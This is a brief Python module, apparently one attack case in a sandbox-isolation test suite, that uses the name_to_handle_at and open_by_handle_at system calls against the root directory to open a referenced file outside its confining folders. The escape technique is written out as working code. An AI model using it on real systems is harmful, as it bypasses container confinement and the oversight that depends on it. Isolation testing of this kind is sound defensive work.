"""Opens a file by its handle, past every folder."""

import ctypes
import os
import struct

from target import REFERENCE, syscall


def attack(x):
    handle = ctypes.create_string_buffer(struct.pack("<Ii", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    syscall("name_to_handle_at", -100, REFERENCE.encode(), handle, ctypes.byref(mount), 0)
    folder = os.open("/", os.O_RDONLY)
    syscall("open_by_handle_at", folder, handle, 0)
    return 1.0
